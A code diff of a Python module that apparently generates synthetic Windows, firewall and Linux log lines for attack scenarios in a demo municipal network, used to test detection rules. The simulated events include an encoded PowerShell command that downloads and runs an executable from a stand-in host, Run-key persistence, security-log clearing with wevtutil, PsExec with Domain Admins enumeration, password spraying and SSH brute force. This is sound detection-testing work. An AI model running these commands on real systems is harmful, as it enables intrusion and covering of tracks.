@@ -1,8 +1,8 @@
 r"""Attacks and breaches of rules that happen in the demo ward, each as the log lines they leave behind.
 
 A story is a pure function of the ward, dice and a start time. Nothing in its lines says that they belong to one;
-the report finds its alerts by host, user, address and time. For whoever writes rules: what the events carry once
-normalized and enriched (ECS names), story by story:
+the report finds its alerts by host, user, address and time. Most that cross the tiers are in
+`crossing`. For whoever writes rules: what the events carry once normalized and enriched (ECS names), story by story:
 
 ``mynumber-to-internet`` (theme flow)
     FortiGate traffic, three sessions to port 443: ``source.ip`` a K- terminal, ``destination.ip`` 203.0.113.66,
@@ -49,17 +49,14 @@ import base64
 import random
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass
-from datetime import datetime, timedelta
+from datetime import datetime
 
+from secops.demo import crossing
 from secops.demo.pen import Line, Pen
 from secops.demo.rhythm import document_path
-from secops.demo.world import DEPARTMENTS, Machine, Staff, World
+from secops.demo.telling import EXPLORER, OFFICE, POWERSHELL, SYSTEM32, after, terminal
+from secops.demo.world import DEPARTMENTS, World
 from secops.demo.writers import windows
-
-_EXPLORER = r"C:\Windows\explorer.exe"
-_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
-_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
-_SYSTEM32 = r"C:\Windows\System32"
 
 
 @dataclass(frozen=True, slots=True)
@@ -95,41 +92,32 @@ class Story:
         return Scene(self.id, start, lines[-1].at, markers, lines)
 
 
-def _after(start: datetime, seconds: float) -> datetime:
-    return start + timedelta(seconds=seconds)
-
-
-def _terminal(pen: Pen, dice: random.Random, zone: str) -> tuple[Machine, Staff]:
-    machine = dice.choice(pen.world.terminals(zone))
-    return machine, pen.world.user_of(machine)
-
-
 def _to_internet(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, _person = _terminal(pen, dice, "mynumber")
+    machine, _person = terminal(pen, dice, "mynumber")
     for turn in range(3):
-        at = _after(start, 4 * turn + dice.random())
+        at = after(start, 4 * turn + dice.random())
         pen.session(at, machine.ip, "203.0.113.66", 443, ("mynumber", "world"), policy=99, sent=48_000 + turn * 900)
     return frozenset({machine.ip, machine.name})
 
 
 def _unregistered(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, _person = _terminal(pen, dice, "mynumber")
+    machine, _person = terminal(pen, dice, "mynumber")
     server = pen.world.by_name["LG-FS01"]
     for turn in range(4):
-        pen.session(_after(start, 7 * turn), machine.ip, server.ip, 445, ("mynumber", "lgwan"), policy=98, sent=310_000)
+        pen.session(after(start, 7 * turn), machine.ip, server.ip, 445, ("mynumber", "lgwan"), policy=98, sent=310_000)
     return frozenset({machine.ip, machine.name})
 
 
 def _expired(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
     source, server = pen.world.by_name["FUKU-AP01"], pen.world.by_name["LG-FS01"]
     for turn in range(2):
-        at = _after(start, 20 * turn + dice.random())
+        at = after(start, 20 * turn + dice.random())
         pen.session(at, source.ip, server.ip, 445, ("mynumber", "lgwan"), policy=13, sent=88_000)
     return frozenset({source.ip, source.name})
 
 
 def _usb(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, person = _terminal(pen, dice, "mynumber")
+    machine, person = terminal(pen, dice, "mynumber")
     device = {"device": "USB大容量記憶装置 BUFFALO USB Flash Disk", "serial": f"BF{dice.randrange(10**8):08d}"}
     data = {
         "SubjectUserSid": "S-1-5-18",
@@ -145,9 +133,9 @@ def _usb(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
         "LocationInformation": "Port_#0003.Hub_#0001",
     }
     pen.windows(start, machine, windows.SECURITY, 6416, data)
-    pen.operation(_after(start, 1), machine, person.account, "デバイス", "USBデバイス接続", **device)
+    pen.operation(after(start, 1), machine, person.account, "デバイス", "USBデバイス接続", **device)
     for turn in range(60):
-        at = _after(start, 8 + turn * 1.1)
+        at = after(start, 8 + turn * 1.1)
         path = document_path(pen.world, machine, person.department, dice)
         copied = f"E:\\{turn:03d}_" + path.rsplit("\\", 1)[-1]
         size = dice.randint(80, 4000) * 1024
@@ -162,14 +150,14 @@ def _usb(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
             size=size,
             **device,
         )
-    pen.operation(_after(start, 80), machine, person.account, "デバイス", "USBデバイス切断", **device)
+    pen.operation(after(start, 80), machine, person.account, "デバイス", "USBデバイス切断", **device)
     return frozenset({machine.ip, machine.name})
 
 
 def _mail_chain(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, person = _terminal(pen, dice, "internet")
+    machine, person = terminal(pen, dice, "internet")
     user = person.account
-    outlook, word = rf"{_OFFICE}\OUTLOOK.EXE", rf"{_OFFICE}\WINWORD.EXE"
+    outlook, word = rf"{OFFICE}\OUTLOOK.EXE", rf"{OFFICE}\WINWORD.EXE"
     cache = rf"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8T2K1QZD"
     opened = rf'"{word}" /n "{cache}\請求書_{dice.randint(1000, 9999)}.docm" /o ""'
     url = f"http://cdn-update.example.net/{dice.randrange(16**6):06x}/setup.exe"
@@ -177,7 +165,7 @@ def _mail_chain(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str
     script = f"(New-Object Net.WebClient).DownloadFile('{url}','{target}');Start-Process '{target}'"
     command = f"powershell.exe -NoP -W Hidden -Enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
     pen.process(start, machine, user, word, opened, outlook)
-    pen.process(_after(start, 6), machine, user, _POWERSHELL, command, word, opened)
+    pen.process(after(start, 6), machine, user, POWERSHELL, command, word, opened)
     block = {
         "MessageNumber": 1,
         "MessageTotal": 1,
@@ -185,62 +173,62 @@ def _mail_chain(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str
         "ScriptBlockId": windows.guid(script),
         "Path": "",
     }
-    pen.windows(_after(start, 7), machine, windows.POWERSHELL, 4104, block)
-    pen.web(_after(start, 8), machine.ip, "GET", url, size=418_304, user=user)
-    at = _after(start, 9)
+    pen.windows(after(start, 7), machine, windows.POWERSHELL, 4104, block)
+    pen.web(after(start, 8), machine.ip, "GET", url, size=418_304, user=user)
+    at = after(start, 9)
     common = {
         "RuleName": "-",
         "UtcTime": f"{at:%Y-%m-%d %H:%M:%S.000}",
         "ProcessGuid": windows.guid(url),
         "ProcessId": 7412,
-        "Image": _POWERSHELL,
+        "Image": POWERSHELL,
         "User": rf"SOTO\{user}",
     }
     created = {"TargetFilename": target, "CreationUtcTime": common["UtcTime"]}
     pen.windows(at, machine, windows.SYSMON, 11, common | created)
-    pen.process(_after(start, 10), machine, user, target, f'"{target}"', _POWERSHELL, command)
+    pen.process(after(start, 10), machine, user, target, f'"{target}"', POWERSHELL, command)
     run = rf"HKU\{windows.sid(user)}\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate"
     changed = common | {"EventType": "SetValue", "Image": target, "TargetObject": run, "Details": target}
-    pen.windows(_after(start, 12), machine, windows.SYSMON, 13, changed)
+    pen.windows(after(start, 12), machine, windows.SYSMON, 13, changed)
     return frozenset({machine.ip, machine.name})
 
 
 def _spray(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, _person = _terminal(pen, dice, "lgwan")
+    machine, _person = terminal(pen, dice, "lgwan")
     controller = pen.world.by_name["LG-DC01"]
     for turn, victim in enumerate(dice.sample(pen.world.staff, 30)):
-        pen.failed_logon(_after(start, 2.5 * turn), controller, victim.account, 3, machine)
+        pen.failed_logon(after(start, 2.5 * turn), controller, victim.account, 3, machine)
     return frozenset({machine.ip, machine.name, controller.name})
 
 
 def _night_admin(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, _person = _terminal(pen, dice, "lgwan")
+    machine, _person = terminal(pen, dice, "lgwan")
     controller = pen.world.by_name["LG-DC01"]
     admin = dice.choice(pen.world.administrators).admin
     pen.logon(start, controller, admin, 10, machine)
-    pen.privileges(_after(start, 0.03), controller, admin)
-    image = rf"{_SYSTEM32}\dsa.msc"
-    pen.process(_after(start, 25), controller, admin, rf"{_SYSTEM32}\mmc.exe", f'"mmc.exe" "{image}"', _EXPLORER)
+    pen.privileges(after(start, 0.03), controller, admin)
+    image = rf"{SYSTEM32}\dsa.msc"
+    pen.process(after(start, 25), controller, admin, rf"{SYSTEM32}\mmc.exe", f'"mmc.exe" "{image}"', EXPLORER)
     return frozenset({controller.name, admin, machine.ip})
 
 
 def _log_clear(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
     server = pen.world.by_name[dice.choice(("LG-BUN01", "LG-GW01", "LG-RENKEI01"))]
     admin = dice.choice(pen.world.administrators).admin
-    image = rf"{_SYSTEM32}\wevtutil.exe"
-    pen.process(start, server, admin, image, "wevtutil.exe cl Security", rf"{_SYSTEM32}\cmd.exe")
+    image = rf"{SYSTEM32}\wevtutil.exe"
+    pen.process(start, server, admin, image, "wevtutil.exe cl Security", rf"{SYSTEM32}\cmd.exe")
     data = {
         "SubjectUserSid": windows.sid(admin),
         "SubjectUserName": admin,
         "SubjectDomainName": "NAIBU",
         "SubjectLogonId": hex(0x100000 + dice.randrange(60000)),
     }
-    pen.windows(_after(start, 0.4), server, windows.EVENTLOG, 1102, data)
+    pen.windows(after(start, 0.4), server, windows.EVENTLOG, 1102, data)
     return frozenset({server.name, admin})
 
 
 def _psexec(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, person = _terminal(pen, dice, "lgwan")
+    machine, person = terminal(pen, dice, "lgwan")
     server = pen.world.by_name["LG-FS01"]
     user = person.account
     pen.logon(start, server, user, 3, machine)
@@ -259,7 +247,7 @@ def _psexec(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
         "AccessList": "%%4417\n\t\t\t\t",
         "AccessReason": "-",
     }
-    pen.windows(_after(start, 0.3), server, windows.SECURITY, 5145, share)
+    pen.windows(after(start, 0.3), server, windows.SECURITY, 5145, share)
     service = r"%SystemRoot%\PSEXESVC.exe"
     installed = {
         "ServiceName": "PSEXESVC",
@@ -268,19 +256,19 @@ def _psexec(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
         "StartType": "demand start",
         "AccountName": "LocalSystem",
     }
-    pen.windows(_after(start, 0.6), server, windows.SYSTEM, 7045, installed)
-    image, shell, net = r"C:\Windows\PSEXESVC.exe", rf"{_SYSTEM32}\cmd.exe", rf"{_SYSTEM32}\net.exe"
-    pen.process(_after(start, 1), server, "SYSTEM", image, image, rf"{_SYSTEM32}\services.exe")
-    pen.process(_after(start, 2), server, "SYSTEM", shell, '"cmd.exe"', image, image)
-    pen.process(_after(start, 9), server, "SYSTEM", net, 'net.exe group "Domain Admins" /domain', shell, '"cmd.exe"')
+    pen.windows(after(start, 0.6), server, windows.SYSTEM, 7045, installed)
+    image, shell, net = r"C:\Windows\PSEXESVC.exe", rf"{SYSTEM32}\cmd.exe", rf"{SYSTEM32}\net.exe"
+    pen.process(after(start, 1), server, "SYSTEM", image, image, rf"{SYSTEM32}\services.exe")
+    pen.process(after(start, 2), server, "SYSTEM", shell, '"cmd.exe"', image, image)
+    pen.process(after(start, 9), server, "SYSTEM", net, 'net.exe group "Domain Admins" /domain', shell, '"cmd.exe"')
     return frozenset({server.name, machine.ip, machine.name})
 
 
 def _leaver(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, person = _terminal(pen, dice, "lgwan")
+    machine, person = terminal(pen, dice, "lgwan")
     departments = [code for code, *_rest in DEPARTMENTS]
     for turn in range(150):
-        at = _after(start, turn * 1.6)
+        at = after(start, turn * 1.6)
         path = document_path(pen.world, machine, dice.choice(departments), dice)
         copied = rf"C:\Users\{person.account}\Desktop\私物\{turn:03d}_" + path.rsplit("\\", 1)[-1]
         size = dice.randint(20, 3000) * 1024
@@ -291,17 +279,17 @@ def _leaver(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
 
 
 def _ssh(pen: Pen, dice: random.Random, start: datetime) -> frozenset[str]:
-    machine, _person = _terminal(pen, dice, "internet")
+    machine, _person = terminal(pen, dice, "internet")
     host = "in-prx01"
     for turn in range(25):
-        at = _after(start, 2 * turn)
+        at = after(start, 2 * turn)
         port, pid = 40000 + dice.randrange(20000), 30000 + turn
         name = dice.choice(("root", "root", "invalid user admin", "invalid user test", "backup"))
         pen.linux(at, host, "sshd", f"Failed password for {name} from {machine.ip} port {port} ssh2", pid=pid)
     accepted = f"Accepted password for backup from {machine.ip} port 51514 ssh2"
-    pen.linux(_after(start, 52), host, "sshd", accepted, pid=30100)
+    pen.linux(after(start, 52), host, "sshd", accepted, pid=30100)
     command = "  backup : TTY=pts/1 ; PWD=/home/backup ; USER=root ; COMMAND=/bin/bash"
-    pen.linux(_after(start, 60), host, "sudo", command, priority=85)
+    pen.linux(after(start, 60), host, "sudo", command, priority=85)
     return frozenset({host, machine.ip, machine.name, "backup"})
 
 
@@ -319,5 +307,40 @@ STORIES: tuple[Story, ...] = (
     Story("night-admin-logon", "深夜の管理者アカウントによるログオン", ("account",), _night_admin, night=True),
     Story("expired-flow", "期限の切れた特定通信の利用", ("flow",), _expired),
     Story("ssh-guessing", "中継サーバへの SSH の総当たりと管理者権限の取得", ("server", "account"), _ssh),
+    Story(
+        "sanitized-macro",
+        "無害化を通ったマクロ付き文書が LGWAN接続系の端末で開かれ、ファイルサーバを探る",
+        ("malware",),
+        crossing.sanitized_macro,
+    ),
+    Story(
+        "usb-bridge",
+        "マイナンバー利用事務系と LGWAN接続系にまたがる USB メモリの使用",
+        ("device",),
+        crossing.usb_bridge,
+    ),
+    Story(
+        "contractor-night",
+        "深夜の保守用リモート接続から住民記録サーバへのログオン",
+        ("account", "server"),
+        crossing.contractor_night,
+        night=True,
+    ),
+    Story("retired-account", "退職者のアカウントの試行と再有効化", ("account",), crossing.retired_account),
+    Story("lgwan-proxy", "LGWAN接続系の端末による Web 中継サーバの直接利用", ("flow",), crossing.lgwan_proxy),
+    Story("upload-out", "ファイルサーバからの大量コピーと庁外への大量の送信", ("flow", "device"), crossing.upload_out),
+    Story(
+        "ransomware",
+        "ファイルサーバの暗号化とマイナンバー利用事務系への広がりの試み",
+        ("malware", "server"),
+        crossing.ransomware,
+    ),
+    Story("dns-tunnel", "LGWAN接続系の端末からの DNS トンネリング", ("malware",), crossing.dns_tunnel),
+    Story(
+        "task-and-user",
+        "LGWAN接続系から住民記録サーバへの侵入と居座り(タスク・アカウント・監査の停止)",
+        ("malware", "server", "account"),
+        crossing.task_and_user,
+    ),
 )
 BY_ID = {story.id: story for story in STORIES}
